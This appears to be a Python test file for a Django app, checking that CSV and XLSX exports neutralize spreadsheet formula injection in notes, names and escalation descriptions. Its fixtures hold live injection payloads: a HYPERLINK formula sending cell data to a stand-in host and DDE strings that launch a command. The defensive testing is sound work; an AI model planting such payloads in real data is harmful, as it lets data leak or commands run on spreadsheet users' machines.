"""Exports never hand a spreadsheet a live formula: text from notes, escalations and names
that begins like one arrives as text (CSV: a leading quote; XLSX: a string cell), while
numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from followups.exports import table_csv, table_xlsx
from followups.models import Disposition, Gender, TaskStatus
from followups.reports.tables import Column, Kind, Table
from tests.clock import on
from tests.factories import CustomerFactory
from tests.reports.conftest import MON
from tests.reports.factories import call, due_task, escalation

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"open")'
NAME = "=cmd|' /C calc'!A0"
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.fixture
def poisoned_call(cardio, a1):
    person = CustomerFactory(name=NAME, gender=Gender.UNKNOWN)
    task = due_task(due=MON, dept=cardio, customer=person, status=TaskStatus.DONE)
    attempt = call(
        task, by=a1, disposition=Disposition.COMPLETE, started=on(MON, 10, 40), notes=LINK
    )
    escalation(
        case=task.case,
        attempt=attempt,
        dept=cardio,
        description=LINK,
        due_at=on(MON, 12, 40),
    )
    return attempt


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response):
    return [list(row) for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]


def export(client, name, fmt):
    return client.get(reverse("supervisor:export", args=[name, name, fmt]))


def test_the_call_csv_quotes_formulas_in_notes_and_names(client, supervisor, poisoned_call):
    client.force_login(supervisor)
    header, row = csv_rows(export(client, "calls", "csv"))
    assert row[header.index("Notes")] == "'" + LINK
    assert row[header.index("Customer")] == "'" + NAME
    assert row[header.index("Seconds")] == "180"


def test_the_call_xlsx_writes_formulas_as_text(client, supervisor, poisoned_call):
    client.force_login(supervisor)
    header, row = xlsx_rows(export(client, "calls", "xlsx"))
    labels = [cell.value for cell in header]
    notes = row[labels.index("Notes")]
    customer = row[labels.index("Customer")]
    seconds = row[labels.index("Seconds")]
    assert (notes.value, notes.data_type) == (LINK, "s")
    assert (customer.value, customer.data_type) == (NAME, "s")
    assert not any(cell.data_type == "f" for cell in row)
    assert (seconds.value, seconds.data_type) == (180, "n")


def test_the_escalation_exports_neutralize_the_description(client, supervisor, poisoned_call):
    client.force_login(supervisor)
    header, row = csv_rows(export(client, "escalations", "csv"))
    assert row[header.index("Description")] == "'" + LINK
    header, row = xlsx_rows(export(client, "escalations", "xlsx"))
    description = row[[cell.value for cell in header].index("Description")]
    assert (description.value, description.data_type) == (LINK, "s")
    assert row[0].data_type == "n"  # the escalation's number stays a number


def test_every_formula_start_is_neutralized_and_numbers_stay_numbers():
    table = Table(
        "t",
        "T",
        [Column("text", "Text", Kind.TEXT), Column("count", "Count"), Column("n", "N")],
        [[text, -3, -0.25] for text in OTHERS] + [["plain - text", 0, 1.5]],
    )
    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))[1:]
    assert [row[0] for row in rows] == ["'" + text for text in OTHERS] + ["plain - text"]
    assert [row[1:] for row in rows] == [["-3", "-0.25"]] * len(OTHERS) + [["0", "1.5"]]
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
    cells = list(sheet.iter_rows(min_row=2))
    # (XML reads a carriage return back as a line feed.)
    assert [row[0].value for row in cells] == [
        *[text.replace("\r", "\n") for text in OTHERS],
        "plain - text",
    ]
    assert {row[0].data_type for row in cells} == {"s"}
    assert [(row[1].value, row[1].data_type) for row in cells] == [(-3, "n")] * len(OTHERS) + [
        (0, "n")
    ]
    assert [row[2].value for row in cells] == [-0.25] * len(OTHERS) + [1.5]
